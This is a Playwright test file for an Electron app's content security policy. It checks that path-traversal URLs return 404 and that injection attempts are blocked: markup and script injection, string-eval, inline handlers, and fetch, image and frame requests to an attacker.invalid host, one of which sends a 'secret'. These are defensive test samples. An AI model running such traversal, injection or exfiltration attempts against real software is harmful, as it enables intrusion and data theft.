import type { ElectronApplication, Page } from '@playwright/test';
import { contentSecurityPolicy } from '../../../src-main/content-security-policy.ts';
import { expect, test } from './electron-test.ts';

test('every answer of the windows’ origin carries the policy, found or not', async ({ electron, options }) => {
  await options.waitForLoadState();

  const answers = await fetchEach(electron, [
    'app://backup-notifier/options',
    'app://backup-notifier/application-settings',
    'app://backup-notifier/no-such-file.js',
  ]);

  const policy = contentSecurityPolicy({ connect: [] });
  expect(answers).toEqual([
    { status: 200, type: 'text/html; charset=utf-8', policy, sniffing: 'nosniff' },
    { status: 200, type: 'text/html; charset=utf-8', policy, sniffing: 'nosniff' },
    { status: 404, type: 'text/plain', policy, sniffing: 'nosniff' },
  ]);
});

test('files outside of the built windows, and other hosts, are not found', async ({ electron, options }) => {
  await options.waitForLoadState();

  const answers = await fetchEach(electron, [
    'app://backup-notifier/../../package.json',
    'app://backup-notifier/%2e%2e/%2e%2e/package.json',
    'app://backup-notifier/..%2f..%2fpackage.json',
    'app://backup-notifier/..%5c..%5cpackage.json',
    'app://another-host/index.html',
  ]);

  expect(answers.map(({ status }) => status)).toEqual([404, 404, 404, 404, 404]);
});

const attacks: Record<string, { directive: string; attempt: () => void }> = {
  'text written into the page as markup': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.innerHTML = '<p>attacked</p>';
    },
  },
  'a policy that would let text be markup': {
    directive: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void };
      };
      trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
    },
  },
  'code imported from text': {
    directive: 'script-src-elem',
    attempt: () => {
      const address = 'data:text/javascript,document.title="attacked"';
      void import(address).catch(() => undefined);
    },
  },
  'text written into a script': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('script').textContent = 'document.title = "attacked"';
    },
  },
  'a script put together piece by piece': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      const script = document.createElement('script');
      script.append(document.createTextNode('document.title = "attacked"'));
      document.body.append(script);
    },
  },
  'an event handler in an attribute': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.body.setAttribute('onclick', 'document.title = "attacked"');
      document.body.click();
    },
  },
  'text run as code': {
    directive: 'require-trusted-types-for',
    attempt: () => {
      // oxlint-disable-next-line typescript/no-implied-eval -- what is to be refused
      setTimeout('document.title = "attacked"', 0);
    },
  },
  'a style written into the page': {
    directive: 'style-src-elem',
    attempt: () => {
      const style = document.createElement('style');
      style.textContent = 'body { display: none }';
      document.head.append(style);
    },
  },
  'a request to the network': {
    directive: 'connect-src',
    attempt: () => void fetch('https://attacker.invalid/?secret').catch(() => undefined),
  },
  'a picture from the network': {
    directive: 'img-src',
    attempt: () => (document.createElement('img').src = 'https://attacker.invalid/pixel.png'),
  },
  'a frame': {
    directive: 'frame-src',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.invalid/';
      document.body.append(frame);
    },
  },
};

test('the policy stops whatever is not one of our files', async ({ options }) => {
  for (const [what, { directive, attempt }] of Object.entries(attacks)) {
    expect(await watchForViolation(options, attempt), what).toBe(directive);
  }
  expect(await options.title()).not.toBe('attacked');
  expect(await options.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
});

test('our own windows offend against nothing', async ({ options }) => {
  const complaints: string[] = [];
  options.on('console', (message) => ['error', 'warning'].includes(message.type()) && complaints.push(message.text()));
  options.on('pageerror', (error) => complaints.push(error.message));

  await options.reload();
  await options.getByRole('button', { name: 'OK' }).waitFor();

  expect(complaints).toEqual([]);
});

async function watchForViolation(page: Page, attempt: () => void): Promise<string> {
  const violation = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        const hear = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
        document.addEventListener('securitypolicyviolation', hear, { once: true });
      }),
  );
  // Some of what is refused also throws.
  await page.evaluate(attempt).catch(() => undefined);
  return await violation;
}

async function fetchEach(electron: ElectronApplication, urls: string[]) {
  return await electron.evaluate(
    async ({ session }, asked) =>
      await Promise.all(
        asked.map(async (url) => {
          const { status, headers } = await session.defaultSession.fetch(url);
          return {
            status,
            type: headers.get('content-type'),
            policy: headers.get('content-security-policy'),
            sniffing: headers.get('x-content-type-options'),
          };
        }),
      ),
    urls,
  );
}
